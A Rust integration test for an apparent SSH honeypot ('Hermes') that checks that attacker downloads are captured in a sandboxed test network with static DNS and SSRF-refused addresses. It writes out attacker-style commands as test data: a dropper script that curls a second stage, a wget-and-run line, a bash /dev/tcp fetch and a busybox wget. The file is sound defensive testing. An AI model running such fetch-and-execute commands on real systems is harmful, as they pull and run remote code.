//! `egress.mode: fetch` end to end: a test "internet" of our own (a Docker network
//! with our web server), names from the static DNS map only, real tools in the box
//! through the real OpenSSH client, payloads in the store, SSRF refused, limits held.

mod internet;

use std::net::{IpAddr, Ipv4Addr, TcpListener};
use std::process::Command;
use std::time::{Duration, Instant};

use hermes_core::address_block::AddressBlock;
use hermes_core::config::{ByteSize, EgressMode, RefusedAnswer};
use serde_json::Value;

use crate::harness::{Hermes, Options, sha256_hex};
use internet::TestInternet;

/// Bytes that are not text: a body must come through as sent, byte for byte.
fn binary(seed: u8, len: usize) -> Vec<u8> {
    (0..len)
        .map(|i| (i as u32).wrapping_mul(2_654_435_761).to_be_bytes()[0] ^ seed)
        .collect()
}

const DROPPER: &str = "#!/bin/sh\n\
echo stage-one-ran\n\
curl -s -o /tmp/second.bin http://cdn.test/second.bin && echo \"second: $(sha256sum /tmp/second.bin | cut -c1-64)\"\n";

/// The files every test internet serves.
fn files() -> Vec<(&'static str, Vec<u8>)> {
    vec![
        ("x.sh", DROPPER.as_bytes().to_vec()),
        ("second.bin", binary(1, 3000)),
        ("py.bin", binary(2, 5000)),
        ("tcp.bin", b"bash /dev/tcp payload\n".to_vec()),
        ("bb.bin", binary(3, 7000)),
        ("wget.bin", binary(4, 1000)),
        ("big.bin", binary(5, 300 * 1024)),
        ("small.bin", b"a small file\n".to_vec()),
    ]
}

fn served(name: &str) -> Vec<u8> {
    files()
        .into_iter()
        .find(|(n, _)| *n == name)
        .map(|(_, contents)| contents)
        .expect("a served file")
}

/// Names the box may resolve: ours, and the refused ones of the SSRF test.
fn static_hosts(internet: &TestInternet) -> Vec<(&'static str, IpAddr)> {
    vec![
        ("dropper.test", internet.server.into()),
        ("cdn.test", internet.server.into()),
        ("meta.test", Ipv4Addr::new(169, 254, 169, 254).into()),
        ("lan.test", Ipv4Addr::new(10, 1, 2, 3).into()),
        ("gateway.test", Ipv4Addr::new(10, 0, 2, 2).into()),
        ("loop.test", Ipv4Addr::LOCALHOST.into()),
        ("self.test", internet.host_side.into()),
    ]
}

/// `egress.mode` with the static map only (no resolver is ever asked) and the
/// test server as the only upstream allowed.
fn egress_options(internet: &TestInternet, mode: EgressMode) -> Options {
    let hosts = static_hosts(internet);
    let allow = AddressBlock::parse(&format!("{}/32", internet.server)).expect("block");
    Options::default().configure(move |c| {
        c.egress.mode = mode;
        c.egress.refused = RefusedAnswer::Reject;
        c.capture.enabled = true;
        c.egress.dns.static_only = true;
        c.egress.dns.static_hosts = hosts
            .iter()
            .map(|(name, ip)| ((*name).to_owned(), *ip))
            .collect();
        c.egress.upstream_allow = vec![allow.clone()];
    })
}

/// Runs `command` in a box of its own with the OpenSSH client: exit code, stdout.
fn ssh(hermes: &Hermes, command: &str) -> (Option<i32>, String) {
    let output = hermes
        .ssh("root", &["toor"], "password")
        .arg(command)
        .output()
        .expect("ssh");
    (
        output.status.code(),
        String::from_utf8_lossy(&output.stdout).into_owned()
            + &String::from_utf8_lossy(&output.stderr),
    )
}

fn downloads_of(events: &[Value], url: &str) -> Vec<Value> {
    events
        .iter()
        .filter(|e| e["eventid"] == "cowrie.session.file_download" && e["url"] == url)
        .cloned()
        .collect()
}

fn failures_of(events: &[Value], url: &str) -> Vec<Value> {
    events
        .iter()
        .filter(|e| e["eventid"] == "cowrie.session.file_download.failed" && e["url"] == url)
        .cloned()
        .collect()
}

/// Waits for the download event of `url` and checks it against what the server
/// sent: its shasum, and the stored file's bytes.
#[track_caller]
fn assert_captured(hermes: &Hermes, url: &str, body: &[u8]) -> Value {
    let events = hermes.wait_for_events(&format!("the download of {url}"), |events| {
        !downloads_of(events, url).is_empty()
    });
    let event = downloads_of(&events, url).remove(0);
    assert_eq!(event["shasum"], sha256_hex(body), "{event}");
    assert_eq!(event["size"], body.len() as u64, "{event}");
    let outfile = event["outfile"].as_str().expect("outfile");
    assert_eq!(std::fs::read(outfile).expect("stored file"), body, "{url}");
    assert!(event["session"].as_str().is_some_and(|s| !s.is_empty()));
    event
}

#[test]
fn egress_fetch_a_dropper_its_second_stage_and_each_tool_are_captured() {
    require_docker!();
    let internet = TestInternet::start("dropper", &files());
    let hermes = Hermes::start(egress_options(&internet, EgressMode::Fetch));

    // The classic: fetch a script, run it; it fetches its second stage with curl.
    let (code, out) = ssh(&hermes, "wget -q http://dropper.test/x.sh && sh x.sh");
    assert_eq!(code, Some(0), "{out}");
    let second = served("second.bin");
    assert!(out.contains("stage-one-ran"), "{out}");
    assert!(
        out.contains(&format!("second: {}", sha256_hex(&second))),
        "{out}"
    );
    let first = assert_captured(&hermes, "http://dropper.test/x.sh", DROPPER.as_bytes());
    let stage_two = assert_captured(&hermes, "http://cdn.test/second.bin", &second);
    assert_eq!(first["session"], stage_two["session"]);
    assert_eq!(first["upstream"], format!("{}:80", internet.server));

    // python3's urllib and bash's /dev/tcp, in another box.
    let tools = "python3 -c \"import urllib.request; print('py', len(urllib.request.urlopen('http://cdn.test/py.bin').read()))\"; \
                 bash -c 'exec 3<>/dev/tcp/cdn.test/80; printf \"GET /tcp.bin HTTP/1.0\\r\\nHost: cdn.test\\r\\n\\r\\n\" >&3; cat <&3' | tail -n 1; \
                 wget -q -O - http://cdn.test/wget.bin | wc -c";
    let (code, out) = ssh(&hermes, tools);
    assert_eq!(code, Some(0), "{out}");
    assert!(out.contains("py 5000"), "{out}");
    assert!(out.contains("bash /dev/tcp payload"), "{out}");
    assert!(out.contains("1000"), "{out}");
    assert_captured(&hermes, "http://cdn.test/py.bin", &served("py.bin"));
    assert_captured(&hermes, "http://cdn.test/tcp.bin", &served("tcp.bin"));
    assert_captured(&hermes, "http://cdn.test/wget.bin", &served("wget.bin"));

    // busybox wget: the attacker brings a static busybox along (piped in), as bots do.
    let busybox = std::fs::read("/bin/busybox").expect("busybox (busybox-static) on the host");
    let mut command = hermes.ssh("root", &["toor"], "password");
    command.arg(
        "cat > /tmp/busybox && chmod +x /tmp/busybox && /tmp/busybox wget -q -O /tmp/bb.bin http://cdn.test/bb.bin && echo bb $(wc -c < /tmp/bb.bin)",
    );
    let output = crate::harness::run_with_stdin(&mut command, &busybox);
    let out = String::from_utf8_lossy(&output.stdout);
    assert!(out.contains("bb 7000"), "{output:?}");
    assert_captured(&hermes, "http://cdn.test/bb.bin", &served("bb.bin"));

    // DNS in the box: the static map answers, a name not in it does not exist
    // (static_only: nobody is asked), and each query is an event.
    let (code, out) = ssh(
        &hermes,
        "getent hosts dropper.test; getent hosts nothere.test; echo rc=$?",
    );
    assert_eq!(code, Some(0), "{out}");
    let lines: Vec<&str> = out.lines().collect();
    assert_eq!(
        lines[0].split_whitespace().collect::<Vec<_>>(),
        [internet.server.to_string().as_str(), "dropper.test"],
        "{out}"
    );
    assert_eq!(lines[1], "rc=2", "not found: {out}");
    let dns = |events: &[Value], name: &str, qtype: &str| -> Option<Value> {
        events
            .iter()
            .find(|e| {
                e["eventid"] == "hermes.egress.dns"
                    && e["query"].as_str().map(|q| q.trim_end_matches('.')) == Some(name)
                    && e["type"] == qtype
            })
            .cloned()
    };
    let events = hermes.wait_for_events("the DNS events of getent", |events| {
        dns(events, "dropper.test", "A").is_some() && dns(events, "nothere.test", "A").is_some()
    });
    let found = dns(&events, "dropper.test", "A").unwrap_or_default();
    assert_eq!(found["rcode"], "NOERROR", "{found}");
    assert_eq!(found["source"], "static", "{found}");
    assert_eq!(found["answers"][0], internet.server.to_string(), "{found}");
    assert!(found["session"].as_str().is_some_and(|s| !s.is_empty()));
    let missing = dns(&events, "nothere.test", "A").unwrap_or_default();
    assert_eq!(missing["rcode"], "NXDOMAIN", "{missing}");
    assert_eq!(missing["answers"].as_array().map(Vec::len), Some(0));

    // The server saw exactly these requests, each once.
    let (requests, _) = internet.stats();
    for path in [
        "/x.sh",
        "/second.bin",
        "/py.bin",
        "/tcp.bin",
        "/wget.bin",
        "/bb.bin",
    ] {
        assert_eq!(
            requests.iter().filter(|r| *r == path).count(),
            1,
            "{path}: {requests:?}"
        );
    }
}
